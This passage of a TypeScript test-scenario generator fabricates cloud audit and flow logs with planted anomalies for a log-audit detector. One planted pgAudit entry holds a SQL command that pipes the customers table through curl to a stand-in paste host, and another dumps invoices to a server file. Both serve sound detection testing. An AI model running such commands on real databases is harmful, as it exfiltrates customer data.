/**
 * A deterministic, realistic multi-day scenario: Cloud Logging exports of all three kinds (GCS
 * data access, Cloud SQL audit + postgres.log, VPC flows) with benign churn every hour and a few
 * planted anomalies in the last day. `generate.ts` writes the bundled examples from it; the tests
 * build held-out scenarios from other seeds and names and check that exactly the planted
 * anomalies are found.
 *
 * Entry shapes follow docs/log-formats.md and the sample lines in test/fixtures/formats/.
 */
import { gzipSync } from 'node:zlib';

export interface ScenarioNames {
  project: string;
  domain: string;
  reportsBucket: string;
  datasetsBucket: string;
  pgInstance: string;
  mysqlInstance: string;
  cluster: string;
  /** Octet that places this scenario's private addresses (10.<net>.x.y). */
  net: number;
}

export const DEFAULT_NAMES: ScenarioNames = {
  project: 'acme-prod',
  domain: 'acme.example',
  reportsBucket: 'acme-finance-reports',
  datasetsBucket: 'acme-ml-datasets',
  pgInstance: 'orders-pg',
  mysqlInstance: 'billing-mysql',
  cluster: 'prod-gke',
  net: 40,
};

export interface ScenarioOptions {
  seed: number;
  /** First day of history (UTC midnight). */
  start: Date;
  historyDays: number;
  /** Entries per source kind per hour, roughly. */
  perHour: number;
  names: ScenarioNames;
  /** gzip history files older than the last history day. */
  gzipOldHistory: boolean;
}

export const DEFAULT_OPTIONS: ScenarioOptions = {
  seed: 20261116,
  start: new Date('2026-11-16T00:00:00Z'),
  historyDays: 4,
  perHour: 10,
  names: DEFAULT_NAMES,
  gzipOldHistory: true,
};

/** What `log-audit audit --format json` must report for the scenario's last day, and nothing else. */
export interface PlantedFinding {
  kind: 'gcs' | 'cloudsql' | 'vpc-flow';
  type: string;
  target: string;
  source: string;
  credential: string | null;
  /** What the anomaly stands for, in words. */
  story: string;
}

export interface ScenarioFile {
  /** Relative path: `history/…` or `today/…`. */
  path: string;
  content: Buffer;
}

/** mulberry32: small, fast, deterministic (shared by the examples, the bench, the chaos run and the tests). */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Entry = Record<string, unknown>;

class Writer {
  private readonly random: () => number;
  private insert = 0;

  constructor(
    seed: number,
    readonly n: ScenarioNames,
  ) {
    this.random = rng(seed);
  }

  int(min: number, max: number): number {
    return min + Math.floor(this.random() * (max - min + 1));
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)]!;
  }

  hex(length: number): string {
    let out = '';
    for (let i = 0; i < length; i++) out += '0123456789abcdef'[this.int(0, 15)];
    return out;
  }

  alnum(length: number): string {
    let out = '';
    for (let i = 0; i < length; i++) out += 'bcdfghjklmnpqrstvwxz2456789'[this.int(0, 26)];
    return out;
  }

  insertId(): string {
    this.insert++;
    return `${this.hex(6)}${this.insert.toString(36)}`;
  }

  logName(id: string): string {
    return `projects/${this.n.project}/logs/${encodeURIComponent(id)}`;
  }

  sa(name: string): string {
    return `${name}@${this.n.project}.iam.gserviceaccount.com`;
  }

  // --- GCS data access (formats.md §2) -------------------------------------------------------
  gcs(o: { time: Date; bucket: string; method: string; object?: string; principal?: string; delegates?: string[]; keyId?: string; callerIp: string; userAgent: string; denied?: boolean }): Entry {
    const resourceName = `projects/_/buckets/${o.bucket}${o.object !== undefined ? `/objects/${o.object}` : ''}`;
    const ts = o.time.toISOString();
    const authenticationInfo: Entry = {};
    if (o.principal) authenticationInfo['principalEmail'] = o.principal;
    if (o.delegates) authenticationInfo['serviceAccountDelegationInfo'] = o.delegates.map((d) => ({ firstPartyPrincipal: { principalEmail: d } }));
    // A call signed with a service-account key file names the key (formats.md §2).
    if (o.keyId && o.principal) authenticationInfo['serviceAccountKeyName'] = `//iam.googleapis.com/projects/${this.n.project}/serviceAccounts/${o.principal}/keys/${o.keyId}`;
    const authz: Entry = { permission: o.method, resource: resourceName, resourceAttributes: {} };
    if (!o.denied) authz['granted'] = true;
    return {
      insertId: this.insertId(),
      logName: this.logName('cloudaudit.googleapis.com/data_access'),
      protoPayload: {
        '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
        authenticationInfo,
        authorizationInfo: [authz],
        methodName: o.method,
        requestMetadata: {
          callerIp: o.callerIp,
          callerSuppliedUserAgent: `${o.userAgent},gzip(gfe)`,
          destinationAttributes: {},
          requestAttributes: { auth: {}, time: ts },
        },
        resourceLocation: { currentLocations: ['us'] },
        resourceName,
        serviceName: 'storage.googleapis.com',
        status: o.denied ? { code: 7, message: 'PERMISSION_DENIED' } : {},
      },
      receiveTimestamp: new Date(o.time.getTime() + 300).toISOString(),
      resource: { labels: { bucket_name: o.bucket, location: 'us', project_id: this.n.project }, type: 'gcs_bucket' },
      severity: o.denied ? 'ERROR' : 'INFO',
      timestamp: ts,
    };
  }

  // --- Cloud SQL (formats.md §4) ---------------------------------------------------------------
  private sqlResource(instance: string): Entry {
    return { labels: { database_id: `${this.n.project}:${instance}`, project_id: this.n.project, region: 'us-central1' }, type: 'cloudsql_database' };
  }

  sqlConnect(o: { time: Date; instance: string; principal: string; callerIp: string }): Entry {
    const ts = o.time.toISOString();
    return {
      protoPayload: {
        '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
        status: {},
        authenticationInfo: { principalEmail: o.principal },
        requestMetadata: { callerIp: o.callerIp, requestAttributes: { time: ts, auth: {} }, destinationAttributes: {} },
        serviceName: 'cloudsql.googleapis.com',
        methodName: 'cloudsql.instances.connect',
        authorizationInfo: [{ resource: `instances/${o.instance}`, permission: 'cloudsql.instances.connect', granted: true, resourceAttributes: {} }],
        resourceName: `instances/${o.instance}`,
        request: {
          '@type': 'type.googleapis.com/google.cloud.sql.v1beta4.SqlInstancesCreateEphemeralCertRequest',
          body: {},
          instance: o.instance,
          project: this.n.project,
        },
        response: { kind: 'sql#sslCert', '@type': 'type.googleapis.com/google.cloud.sql.v1beta4.SslCert' },
      },
      insertId: this.insertId(),
      resource: this.sqlResource(o.instance),
      timestamp: ts,
      severity: 'NOTICE',
      logName: this.logName('cloudaudit.googleapis.com/activity'),
      receiveTimestamp: new Date(o.time.getTime() + 350).toISOString(),
    };
  }

  sqlLogin(o: { time: Date; instance: string; principal: string; clientIp: string; database: string }): Entry {
    const ts = o.time.toISOString();
    return {
      insertId: this.insertId(),
      logName: this.logName('cloudaudit.googleapis.com/data_access'),
      protoPayload: {
        '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
        authenticationInfo: { principalEmail: o.principal },
        authorizationInfo: [{ granted: true, permission: 'cloudsql.instances.login', resource: `instances/${o.instance}`, resourceAttributes: {} }],
        methodName: 'cloudsql.instances.login',
        request: {
          '@type': 'type.googleapis.com/google.cloud.sql.authorization.v1.InstancesLoginRequest',
          clientIpAddress: o.clientIp,
          database: o.database,
          databaseSessionId: String(this.int(100000, 999999)),
          instance: `projects/${this.n.project}/locations/us-central1/instances/${o.instance}`,
          user: o.principal.replace('.gserviceaccount.com', ''),
        },
        requestMetadata: { callerIp: o.clientIp, destinationAttributes: {}, requestAttributes: { auth: {}, time: ts } },
        resourceName: `instances/${o.instance}`,
        serviceName: 'cloudsql.googleapis.com',
        status: {},
      },
      receiveTimestamp: new Date(o.time.getTime() + 500).toISOString(),
      resource: this.sqlResource(o.instance),
      severity: 'INFO',
      timestamp: ts,
    };
  }

  mysql(o: { time: Date; instance: string; user: string; ip: string; cmd: string; query?: string; db?: string; failed?: boolean }): Entry {
    const ts = o.time.toISOString();
    const request: Entry = {
      '@type': 'type.googleapis.com/google.cloud.sql.audit.v1.MysqlAuditEntry',
      cmd: o.cmd,
      date: ts,
      errCode: o.failed ? '1045' : '0',
      ip: o.ip,
      msgType: 'activity',
      privUser: o.user,
      queryId: String(this.int(0, 99999)),
      status: o.failed ? 'unsuccessful' : 'successful',
      threadId: String(this.int(1000, 99999)),
      user: o.user,
    };
    if (o.query) request['query'] = o.query;
    if (o.db) request['db'] = o.db;
    return {
      insertId: `2#${this.int(1e9, 9e9)}#${this.insertId()}#cloudsql_mysql_audit#${o.time.getTime()}000000#${this.hex(16)}-0-0@a1`,
      logName: this.logName('cloudaudit.googleapis.com/data_access'),
      protoPayload: {
        '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
        methodName: 'cloudsql.instances.query',
        request,
        resourceName: `instances/${o.instance}`,
        serviceName: 'cloudsql.googleapis.com',
      },
      receiveTimestamp: new Date(o.time.getTime() + 2800).toISOString(),
      resource: this.sqlResource(o.instance),
      severity: 'INFO',
      timestamp: ts,
    };
  }

  pgaudit(o: { time: Date; instance: string; user: string; database: string; auditClass: string; command: string; statement: string }): Entry {
    const ts = o.time.toISOString();
    return {
      insertId: this.insertId(),
      logName: this.logName('cloudaudit.googleapis.com/data_access'),
      protoPayload: {
        '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
        methodName: 'cloudsql.instances.query',
        request: {
          '@type': 'type.googleapis.com/google.cloud.sql.audit.v1.PgAuditEntry',
          auditClass: o.auditClass,
          auditType: 'SESSION',
          chunkCount: '1',
          chunkIndex: '1',
          command: o.command,
          database: o.database,
          databaseSessionId: this.int(100000, 999999),
          parameter: '[not logged]',
          statement: o.statement,
          statementId: this.int(1, 500),
          substatementId: 1,
          user: o.user,
        },
        resourceName: `instances/${o.instance}`,
        serviceName: 'cloudsql.googleapis.com',
      },
      receiveTimestamp: new Date(o.time.getTime() + 511).toISOString(),
      resource: this.sqlResource(o.instance),
      severity: 'INFO',
      timestamp: ts,
    };
  }

  /** `connection received` then `connection authorized` or `password authentication failed`, same pid. */
  postgresConnection(o: { time: Date; instance: string; host: string; user: string; database: string; failed?: boolean }): Entry[] {
    const pid = this.int(10000, 999999);
    const t1 = o.time;
    const t2 = new Date(o.time.getTime() + this.int(3, 40));
    const stamp = (t: Date) => `${t.toISOString().replace('T', ' ').slice(0, 23)} UTC`;
    const line = (t: Date, n: number, db: string, user: string, level: string, message: string, severity: string): Entry => ({
      insertId: this.insertId(),
      logName: this.logName('cloudsql.googleapis.com/postgres.log'),
      receiveTimestamp: new Date(t.getTime() + 1200).toISOString(),
      resource: this.sqlResource(o.instance),
      severity,
      textPayload: `${stamp(t)} [${pid}]: [${n}-1] db=${db},user=${user} ${level}:  ${message}`,
      timestamp: t.toISOString(),
    });
    const received = line(t1, 1, '[unknown]', '[unknown]', 'LOG', `connection received: host=${o.host} port=${this.int(32768, 60999)}`, 'INFO');
    const outcome = o.failed
      ? line(t2, 2, o.database, o.user, 'FATAL', `password authentication failed for user "${o.user}"`, 'ALERT')
      : line(t2, 2, o.database, o.user, 'LOG', `connection authorized: user=${o.user} database=${o.database} application_name=orders-api SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)`, 'INFO');
    return [received, outcome];
  }

  postgresNoise(o: { time: Date; instance: string }): Entry {
    const pid = this.int(10000, 999999);
    const t = o.time;
    return {
      insertId: this.insertId(),
      logName: this.logName('cloudsql.googleapis.com/postgres.log'),
      receiveTimestamp: new Date(t.getTime() + 900).toISOString(),
      resource: this.sqlResource(o.instance),
      severity: 'INFO',
      textPayload: `${t.toISOString().replace('T', ' ').slice(0, 23)} UTC [${pid}]: [1-1] db=,user= LOG:  checkpoint complete: wrote ${this.int(10, 900)} buffers (0.${this.int(1, 9)}%)`,
      timestamp: t.toISOString(),
    };
  }

  // --- VPC flows (formats.md §5) ---------------------------------------------------------------
  flow(o: {
    time: Date;
    src: { ip: string; port: number; extra?: Entry };
    dest: { ip: string; port: number; extra?: Entry };
    subnet: string;
    reporter: 'SRC' | 'DEST';
  }): Entry {
    const start = o.time;
    const end = new Date(start.getTime() + this.int(50, 4000));
    const payload: Entry = {
      bytes_sent: String(this.int(60, 90000)),
      connection: { dest_ip: o.dest.ip, dest_port: o.dest.port, protocol: 6, src_ip: o.src.ip, src_port: o.src.port },
      end_time: end.toISOString(),
      packets_sent: String(this.int(1, 90)),
      reporter: o.reporter,
      rtt_msec: String(this.int(1, 40)),
      start_time: start.toISOString(),
    };
    for (const [key, value] of Object.entries(o.src.extra ?? {})) payload[`src_${key}`] = value;
    for (const [key, value] of Object.entries(o.dest.extra ?? {})) payload[`dest_${key}`] = value;
    const received = new Date(end.getTime() + this.int(5000, 60000)).toISOString();
    return {
      insertId: this.insertId(),
      jsonPayload: payload,
      logName: this.logName('compute.googleapis.com/vpc_flows'),
      receiveTimestamp: received,
      resource: { labels: { location: 'us-central1-a', project_id: this.n.project, subnetwork_id: String(this.int(1e17, 9e17)), subnetwork_name: o.subnet }, type: 'gce_subnetwork' },
      timestamp: received,
    };
  }
}

/** Where the scenario's actors live. */
function world(w: Writer) {
  const n = w.n;
  const net = n.net;
  return {
    etl: w.sa('etl'),
    reporting: w.sa('reporting'),
    ci: w.sa('ci-deployer'),
    ordersApi: w.sa('orders-api'),
    // A partner's nightly sync, signed with a service-account key file from the partner's address.
    partnerSync: w.sa('partner-sync'),
    partnerIp: '203.0.113.77',
    partnerKey: w.hex(40),
    alice: `alice@${n.domain}`,
    bob: `bob@${n.domain}`,
    deployer: `release-bot@${n.domain}`,
    reportingVmIp: `10.${net}.0.21`,
    ordersProxyVmIp: `10.${net}.0.30`,
    loginVmIp: `10.${net}.0.40`,
    billingVmIp: `10.${net}.0.50`,
    officePrefix: `198.51.100.`,
    bobPrefix: `2001:db8:${net}:12:`,
    podNodeNets: [`10.${net + 4}.1.`, `10.${net + 4}.2.`, `10.${net + 4}.3.`],
    redis: `10.${net + 80}.0.4`,
    api: `10.${net + 12}.1.17`,
    batchVm: { ip: `10.${net}.0.60`, name: 'batch-runner-1' },
    nodePool: `gke-${n.cluster}-default-pool`,
  };
}

type Hour = { time: (minute?: number) => Date; entries: { gcs: Entry[]; sql: Entry[]; vpc: Entry[] } };

/** One hour of normal traffic, with the churn real systems have. */
function normalHour(w: Writer, W: ReturnType<typeof world>, hour: Hour, options: { nodeHash: string }): void {
  const n = w.n;
  const { gcs, sql, vpc } = hour.entries;
  // Busier in working hours, with some noise.
  const per = (base: number) => Math.max(1, Math.round(base * (0.6 + w.int(0, 8) / 10) * (hour.time().getUTCHours() >= 8 && hour.time().getUTCHours() < 20 ? 1.4 : 0.6)));
  const t = () => hour.time(w.int(0, 59));
  // GCS: serverless ETL writes from Google's network (`private`); the reporting VM reads by its internal IP.
  for (let i = 0; i < per(3); i++) gcs.push(w.gcs({ time: t(), bucket: n.reportsBucket, method: w.pick(['storage.objects.create', 'storage.objects.get']), object: `daily/${w.int(1, 28)}/ledger-${w.hex(6)}.csv`, principal: W.etl, callerIp: 'private', userAgent: 'gcloud-python/2.14.0' }));
  for (let i = 0; i < per(2); i++) gcs.push(w.gcs({ time: t(), bucket: n.reportsBucket, method: 'storage.objects.get', object: `daily/${w.int(1, 28)}/summary.pdf`, principal: W.reporting, callerIp: W.reportingVmIp, userAgent: 'google-cloud-storage-java/2.30' }));
  // Analysts from the office NAT pool (several addresses of one /24) and from IPv6 with privacy addresses.
  if (w.int(0, 2) > 0) gcs.push(w.gcs({ time: t(), bucket: n.reportsBucket, method: w.pick(['storage.objects.get', 'storage.objects.list']), object: `q${w.int(1, 4)}/board-pack.xlsx`, principal: W.alice, callerIp: W.officePrefix + w.int(10, 13), userAgent: 'Mozilla/5.0 (Macintosh) Chrome/131.0' }));
  if (w.int(0, 2) > 0) gcs.push(w.gcs({ time: t(), bucket: n.datasetsBucket, method: 'storage.objects.get', object: `train/shard-${w.int(0, 999)}.tfrecord`, principal: W.bob, callerIp: W.bobPrefix + `${w.hex(4)}:${w.hex(4)}:${w.hex(4)}:${w.hex(4)}`, userAgent: 'gsutil/5.27' }));
  // A partner's sync reads exports with its key file from its fixed address, most hours.
  if (w.int(0, 2) > 0) gcs.push(w.gcs({ time: t(), bucket: n.reportsBucket, method: 'storage.objects.get', object: `exports/partner/${w.int(1, 28)}.csv`, principal: W.partnerSync, keyId: W.partnerKey, callerIp: W.partnerIp, userAgent: 'rclone/v1.66.0' }));
  // CI writes models by impersonating a service account from VMs in another project (gce-internal-ip).
  if (w.int(0, 3) === 0) gcs.push(w.gcs({ time: t(), bucket: n.datasetsBucket, method: 'storage.objects.create', object: `models/${w.hex(8)}/saved_model.pb`, principal: W.ci, delegates: [W.deployer], callerIp: 'gce-internal-ip', userAgent: 'terraform/1.9' }));
  // An occasional denied call from a known caller (misconfigured path) stays quiet.
  if (w.int(0, 9) === 0) gcs.push(w.gcs({ time: t(), bucket: n.reportsBucket, method: 'storage.objects.delete', object: 'daily/tmp.lock', principal: W.reporting, callerIp: W.reportingVmIp, userAgent: 'google-cloud-storage-java/2.30', denied: true }));

  // Cloud SQL: orders API pods connect through the Auth Proxy and log in to PostgreSQL; pod IPs churn.
  const podIp = () => w.pick(W.podNodeNets) + w.int(2, 250);
  for (let i = 0; i < per(2); i++) sql.push(...w.postgresConnection({ time: t(), instance: n.pgInstance, host: podIp(), user: 'orders_app', database: 'orders' }));
  // pgAudit: the orders API's routine statements, with other literals and IN-list lengths every time.
  for (let i = 0; i < per(2); i++) {
    const id = w.int(1000, 99999);
    const routine: [string, string, string][] = [
      ['READ', 'SELECT', `SELECT id, status, total FROM orders WHERE id = ${id}`],
      ['READ', 'SELECT', `SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.id IN (${Array.from({ length: w.int(1, 6) }, () => w.int(1000, 99999)).join(', ')})`],
      ['WRITE', 'INSERT', `INSERT INTO orders (customer_id, total, status) VALUES (${w.int(1, 5000)}, ${w.int(5, 900)}.${w.int(10, 99)}, 'new')`],
      ['WRITE', 'UPDATE', `UPDATE orders SET status = '${w.pick(['paid', 'shipped', 'cancelled'])}' WHERE id = ${id}`],
    ];
    const [auditClass, command, statement] = w.pick(routine);
    sql.push(w.pgaudit({ time: t(), instance: n.pgInstance, user: 'orders_app', database: 'orders', auditClass, command, statement }));
  }
  if (w.int(0, 1) === 0) sql.push(w.sqlConnect({ time: t(), instance: n.pgInstance, principal: W.ordersApi, callerIp: W.ordersProxyVmIp }));
  if (w.int(0, 2) === 0) sql.push(w.sqlLogin({ time: t(), instance: n.pgInstance, principal: W.reporting, clientIp: W.loginVmIp, database: 'orders' }));
  sql.push(w.postgresNoise({ time: t(), instance: n.pgInstance }));
  for (let i = 0; i < per(2); i++) {
    const cmd = w.pick(['connect', 'query', 'query']);
    const query = w.pick([`SELECT * FROM invoices WHERE account_id = ${w.int(1, 9000)}`, `UPDATE invoices SET paid_at = NOW() WHERE id IN (${Array.from({ length: w.int(1, 4) }, () => w.int(1, 90000)).join(',')})`]);
    sql.push(w.mysql({ time: t(), instance: n.mysqlInstance, user: 'billing', ip: W.billingVmIp, cmd, ...(cmd === 'query' ? { query } : {}), db: 'billing' }));
  }
  // Cloud SQL's own maintenance users: constant noise that must be ignored.
  sql.push(w.mysql({ time: t(), instance: n.mysqlInstance, user: 'cloudsqladmin', ip: '127.0.0.1', cmd: 'query', query: 'SELECT 1' }));

  // VPC flows: checkout pods (churning names and IPs) and the batch VM use Redis; node-pool VMs call the API.
  for (let i = 0; i < per(3); i++) {
    const ip = podIp();
    const pod = `checkout-${w.hex(9)}-${w.alnum(5)}`;
    const gke = { cluster: { cluster_location: 'us-central1', cluster_name: n.cluster }, pod: { pod_name: pod, pod_namespace: 'checkout' } };
    const port = w.int(32768, 60999);
    vpc.push(w.flow({ time: t(), src: { ip, port, extra: { gke_details: gke, vpc: { project_id: n.project, subnetwork_name: 'gke-subnet', vpc_name: 'prod-vpc' } } }, dest: { ip: W.redis, port: 6379 }, subnet: 'gke-subnet', reporter: 'SRC' }));
    // The response direction of the same connection, as the pod's node reports it.
    if (w.int(0, 1) === 0) vpc.push(w.flow({ time: t(), src: { ip: W.redis, port: 6379 }, dest: { ip, port, extra: { gke_details: gke } }, subnet: 'gke-subnet', reporter: 'DEST' }));
  }
  if (w.int(0, 1) === 0) vpc.push(w.flow({ time: t(), src: { ip: W.batchVm.ip, port: w.int(32768, 60999), extra: { instance: { project_id: n.project, region: 'us-central1', vm_name: W.batchVm.name, zone: 'us-central1-a' } } }, dest: { ip: W.redis, port: 6379 }, subnet: 'app-subnet', reporter: 'SRC' }));
  for (let i = 0; i < per(1); i++) {
    const node = `${W.nodePool}-${options.nodeHash}-${w.pick(['xk2q', 'b7tn', 'p9sd'])}`;
    vpc.push(w.flow({ time: t(), src: { ip: `10.${n.net}.8.${w.int(2, 9)}`, port: w.int(32768, 60999), extra: { instance: { project_id: n.project, region: 'us-central1', vm_name: node, zone: 'us-central1-b' } } }, dest: { ip: W.api, port: 8080 }, subnet: 'gke-subnet', reporter: 'SRC' }));
  }
  // Outbound traffic to the internet is not an access to our data.
  if (w.int(0, 1) === 0) vpc.push(w.flow({ time: t(), src: { ip: W.batchVm.ip, port: w.int(32768, 60999), extra: { instance: { project_id: n.project, region: 'us-central1', vm_name: W.batchVm.name, zone: 'us-central1-a' } } }, dest: { ip: '142.250.72.78', port: 443, extra: { location: { asn: 15169, continent: 'America', country: 'usa' } } }, subnet: 'app-subnet', reporter: 'SRC' }));
}

/** The planted anomalies of the last day; each returns its expected finding. */
function plantAnomalies(w: Writer, W: ReturnType<typeof world>, hours: Hour[]): PlantedFinding[] {
  const n = w.n;
  const planted: PlantedFinding[] = [];
  const at = (h: number) => hours[h]!;
  const some = (count: number, f: (i: number) => void) => {
    for (let i = 0; i < count; i++) f(i);
  };

  // 1. A credential nobody has used on the bucket reads board packs from the internet.
  const contractor = `contractor@partner-${w.alnum(4)}.example`;
  some(4, () => at(3).entries.gcs.push(w.gcs({ time: at(3).time(w.int(0, 59)), bucket: n.reportsBucket, method: 'storage.objects.get', object: `q${w.int(1, 4)}/board-pack.xlsx`, principal: contractor, callerIp: '203.0.113.50', userAgent: 'python-requests/2.31.0' })));
  planted.push({ kind: 'gcs', type: 'new-credential', target: n.reportsBucket, source: 'ip:203.0.113.50', credential: contractor, story: 'unknown principal reads from the internet' });

  // 2. A known analyst from an address never seen (a hotel? a stolen session?).
  some(3, () => at(5).entries.gcs.push(w.gcs({ time: at(5).time(w.int(0, 59)), bucket: n.reportsBucket, method: 'storage.objects.get', object: 'q4/board-pack.xlsx', principal: W.alice, callerIp: '192.0.2.44', userAgent: 'curl/8.5.0' })));
  planted.push({ kind: 'gcs', type: 'new-source', target: n.reportsBucket, source: 'ip:192.0.2.44', credential: W.alice, story: 'known analyst from a new internet address' });

  // 3. The ETL service account (only ever `private`) used from the office network: a copied key.
  some(2, () => at(7).entries.gcs.push(w.gcs({ time: at(7).time(w.int(0, 59)), bucket: n.reportsBucket, method: 'storage.objects.list', principal: W.etl, callerIp: `${W.officePrefix}12`, userAgent: 'gsutil/5.27' })));
  planted.push({ kind: 'gcs', type: 'credential-from-new-source', target: n.reportsBucket, source: `ip:${W.officePrefix}12`, credential: W.etl, story: 'service-account key used from a laptop in the office' });

  // 4. Someone guesses object names with no access: a burst of denied calls.
  some(14, (i) => at(9).entries.gcs.push(w.gcs({ time: at(9).time(Math.min(59, 10 + i)), bucket: n.datasetsBucket, method: 'storage.objects.get', object: `train/shard-${i}.tfrecord`, principal: `scanner${i % 3}@gmail.com`, callerIp: '203.0.113.99', userAgent: 'Go-http-client/1.1', denied: true })));
  planted.push({ kind: 'gcs', type: 'failed-auth-burst', target: n.datasetsBucket, source: 'ip:203.0.113.99', credential: null, story: 'denied requests from an unknown address' });

  // 5. Password guessing against MySQL from the internet.
  some(12, (i) => at(11).entries.sql.push(w.mysql({ time: at(11).time(Math.min(59, 20 + i)), instance: n.mysqlInstance, user: 'root', ip: '203.0.113.66', cmd: 'connect', failed: true })));
  planted.push({ kind: 'cloudsql', type: 'failed-auth-burst', target: `${n.project}:${n.mysqlInstance}`, source: 'ip:203.0.113.66', credential: 'db-user:root', story: 'MySQL password guessing' });

  // 6. A new database user reads the orders table (pgAudit has no client address).
  some(3, () => at(13).entries.sql.push(w.pgaudit({ time: at(13).time(w.int(0, 59)), instance: n.pgInstance, user: 'tmp_export', database: 'orders', auditClass: 'READ', command: 'SELECT', statement: 'COPY (SELECT * FROM customers) TO STDOUT' })));
  planted.push({ kind: 'cloudsql', type: 'new-credential', target: `${n.project}:${n.pgInstance}`, source: 'unrecorded', credential: 'db-user:tmp_export', story: 'new database user dumps customers' });

  // 7. The orders API principal connects through the Auth Proxy from outside.
  at(15).entries.sql.push(w.sqlConnect({ time: at(15).time(7), instance: n.pgInstance, principal: W.ordersApi, callerIp: '192.0.2.10' }));
  planted.push({ kind: 'cloudsql', type: 'new-source', target: `${n.project}:${n.pgInstance}`, source: 'ip:192.0.2.10', credential: W.ordersApi, story: 'Cloud SQL connect from an unknown address' });

  // 8. A sandbox namespace pod reaches the production Redis.
  const sandbox = { cluster: { cluster_location: 'us-central1', cluster_name: n.cluster }, pod: { pod_name: `debug-${w.alnum(5)}`, pod_namespace: 'sandbox' } };
  // Production Redis is named within the VPC its clients report (learn folds the metadata-less records in).
  const redisTarget = `${n.project}/prod-vpc/${W.redis}:6379`;
  some(3, () => at(17).entries.vpc.push(w.flow({ time: at(17).time(w.int(0, 59)), src: { ip: `10.${n.net + 4}.9.${w.int(2, 250)}`, port: w.int(32768, 60999), extra: { gke_details: sandbox } }, dest: { ip: W.redis, port: 6379 }, subnet: 'gke-subnet', reporter: 'SRC' })));
  planted.push({ kind: 'vpc-flow', type: 'new-source', target: redisTarget, source: `gke:${n.cluster}/sandbox`, credential: null, story: 'sandbox pod reaches production Redis' });

  // 9. A VM nobody knew about talks to Redis.
  at(19).entries.vpc.push(w.flow({ time: at(19).time(33), src: { ip: `10.${n.net}.0.77`, port: 51515, extra: { instance: { project_id: n.project, region: 'us-central1', vm_name: 'jumpbox-2', zone: 'us-central1-c' } } }, dest: { ip: W.redis, port: 6379 }, subnet: 'app-subnet', reporter: 'SRC' }));
  planted.push({ kind: 'vpc-flow', type: 'new-source', target: redisTarget, source: `vm:${n.project}/jumpbox-2`, credential: null, story: 'unknown VM reaches Redis' });

  // 10. A brand-new Redis instance with no baseline: reported once, however many clients it has.
  const newRedis = `10.${n.net + 80}.0.12`;
  some(5, () => {
    const gke = { cluster: { cluster_location: 'us-central1', cluster_name: n.cluster }, pod: { pod_name: `checkout-${w.hex(9)}-${w.alnum(5)}`, pod_namespace: 'checkout' } };
    at(21).entries.vpc.push(w.flow({ time: at(21).time(w.int(0, 59)), src: { ip: `10.${n.net + 4}.${w.int(1, 3)}.${w.int(2, 250)}`, port: w.int(32768, 60999), extra: { gke_details: gke } }, dest: { ip: newRedis, port: 6379 }, subnet: 'gke-subnet', reporter: 'SRC' }));
  });
  planted.push({ kind: 'vpc-flow', type: 'not-baselined', target: `${newRedis}:6379`, source: '*', credential: null, story: 'new Redis instance without a baseline' });

  // 11. The orders API's own database user runs COPY … TO PROGRAM: a statement it never ran, and never routine.
  at(16).entries.sql.push(w.pgaudit({ time: at(16).time(12), instance: n.pgInstance, user: 'orders_app', database: 'orders', auditClass: 'READ', command: 'COPY', statement: "COPY customers TO PROGRAM 'curl -sT - https://paste.example/u'" }));
  planted.push({ kind: 'cloudsql', type: 'new-statement', target: `${n.project}:${n.pgInstance}`, source: 'unrecorded', credential: 'db-user:orders_app', story: 'known database user pipes customers to a program' });
  // 12. The billing user, from its usual VM, writes invoices to a file on the server: a known kind, a never-routine shape.
  at(18).entries.sql.push(w.mysql({ time: at(18).time(3), instance: n.mysqlInstance, user: 'billing', ip: W.billingVmIp, cmd: 'query', query: "SELECT * FROM invoices INTO OUTFILE '/var/lib/mysql-files/invoices.csv'", db: 'billing' }));
  planted.push({ kind: 'cloudsql', type: 'new-statement', target: `${n.project}:${n.mysqlInstance}`, source: `ip:${W.billingVmIp}`, credential: 'db-user:billing', story: 'known MySQL user writes a table to a server file' });
  // 13. The partner's service account, with a key nobody has seen, from a new address: a stolen key.
  const stolenKey = w.hex(40);
  some(2, () => at(21).entries.gcs.push(w.gcs({ time: at(21).time(w.int(0, 59)), bucket: n.reportsBucket, method: 'storage.objects.get', object: `exports/partner/${w.int(1, 28)}.csv`, principal: W.partnerSync, keyId: stolenKey, callerIp: '203.0.113.201', userAgent: 'python-requests/2.31.0' })));
  planted.push({ kind: 'gcs', type: 'new-source', target: n.reportsBucket, source: 'ip:203.0.113.201', credential: W.partnerSync, story: `stolen service-account key …${stolenKey.slice(-6)} used from a new address` });
  return planted;
}

/** Benign churn on the last day that must stay silent (asserted by the tests through "nothing else"). */
function benignChurn(w: Writer, W: ReturnType<typeof world>, hours: Hour[]): void {
  const n = w.n;
  const h = hours[10]!;
  // A new address of the office NAT pool (inside the learned /24).
  h.entries.gcs.push(w.gcs({ time: h.time(5), bucket: n.reportsBucket, method: 'storage.objects.get', object: 'q4/board-pack.xlsx', principal: W.alice, callerIp: `${W.officePrefix}27`, userAgent: 'Mozilla/5.0 (Macintosh) Chrome/131.0' }));
  // A new IPv6 privacy address inside the known /64.
  h.entries.gcs.push(w.gcs({ time: h.time(6), bucket: n.datasetsBucket, method: 'storage.objects.get', object: 'train/shard-1.tfrecord', principal: W.bob, callerIp: `${W.bobPrefix}${w.hex(4)}:${w.hex(4)}:${w.hex(4)}:1`, userAgent: 'gsutil/5.27' }));
  // A postgres connection from a new pod IP on a known node range.
  h.entries.sql.push(...w.postgresConnection({ time: h.time(8), instance: n.pgInstance, host: `${W.podNodeNets[1]}251`, user: 'orders_app', database: 'orders' }));
  // The partner rotated its key: a new key from the usual address.
  h.entries.gcs.push(w.gcs({ time: h.time(11), bucket: n.reportsBucket, method: 'storage.objects.get', object: 'exports/partner/3.csv', principal: W.partnerSync, keyId: w.hex(40), callerIp: W.partnerIp, userAgent: 'rclone/v1.66.0' }));
  // Routine statements with literals never seen before.
